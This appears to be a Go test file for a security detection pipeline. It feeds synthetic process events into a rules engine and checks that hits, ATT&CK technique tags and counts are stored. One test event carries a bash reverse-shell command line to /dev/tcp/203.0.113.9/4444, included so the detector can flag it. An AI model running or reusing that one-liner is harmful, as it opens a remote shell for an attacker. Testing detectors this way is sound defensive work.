package pipeline_test

import (
	"context"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/quarry-sec/quarry/attack"
	"github.com/quarry-sec/quarry/detections"
	"github.com/quarry-sec/quarry/detections/pipeline"
	"github.com/quarry-sec/quarry/detections/ruleset"
	"github.com/quarry-sec/quarry/telemetry"
	"github.com/quarry-sec/quarry/telemetry/eventstore"
)

func linuxExec(pid int64, path, cmdline, parent string) telemetry.Event {
	e := telemetry.NewEvent(telemetry.KindExec, telemetry.SourceEBPF)
	e.Time = time.Now()
	e.Host = "lab"
	e.PID, e.PPID = pid, 1
	e.Path, e.Cmdline, e.ParentPath = path, cmdline, parent
	e.UID, e.Username = 0, "root"
	return e
}

func TestPipelineStoresHitsAndTags(t *testing.T) {
	kb, err := attack.Embedded()
	if err != nil {
		t.Fatal(err)
	}
	res, err := ruleset.Load(ruleset.Config{Builtin: true, KB: kb})
	if err != nil || len(res.Errors) > 0 {
		t.Fatalf("builtin pack: %v %v", err, res.Errors)
	}
	st, err := eventstore.Open(filepath.Join(t.TempDir(), "events.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	p := pipeline.New(st, detections.NewEngine(res.Rules), pipeline.Options{KB: kb, FlushInterval: 50 * time.Millisecond,
		OnError: func(err error) { t.Logf("pipeline error: %v", err) }})
	// A reverse shell (an alert), an ARP cache listing (informational: a tag)
	// and an ordinary command (nothing).
	p.Add(linuxExec(10, "/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "/usr/sbin/nginx"))
	p.Add(linuxExec(11, "/usr/sbin/arp", "arp -a", "/bin/bash"))
	p.Add(linuxExec(12, "/usr/bin/ls", "ls -l", "/bin/bash"))

	// Hits are stored within a second without Close.
	deadline := time.Now().Add(time.Second)
	var hits []telemetry.Hit
	for time.Now().Before(deadline) && len(hits) == 0 {
		time.Sleep(20 * time.Millisecond)
		st.ScanHits(context.Background(), eventstore.HitFilter{}, func(h *telemetry.Hit) bool {
			hits = append(hits, *h)
			return true
		})
	}
	if len(hits) == 0 {
		t.Fatal("no hit stored within 1 s")
	}
	for _, h := range hits {
		if h.PID != 10 || h.EID == 0 || h.RuleAuthor == "" || h.Severity == "informational" || h.Severity == "low" {
			t.Errorf("unexpected hit row %+v", h)
		}
	}
	if err := p.Close(); err != nil {
		t.Fatal(err)
	}
	var tagged map[int64]string = map[int64]string{}
	st.Scan(context.Background(), eventstore.Filter{}, func(e *eventstore.StoredEvent) bool {
		tagged[e.PID] = e.Techniques
		return true
	})
	if !strings.Contains(tagged[11], "T1018") || tagged[12] != "" || len(tagged) != 3 {
		t.Fatalf("tags: %v", tagged)
	}
	// A store attempt may fail transiently (SQLite answers "database is
	// locked" at once while a reader recovers the new database's WAL): the
	// pipeline retries it, and counts the attempt in Errors; nothing is lost.
	if s := p.Stats(); s.Events != 3 || s.Stored != 3 || s.Tagged != 1 {
		t.Fatalf("stats %+v", s)
	}
}
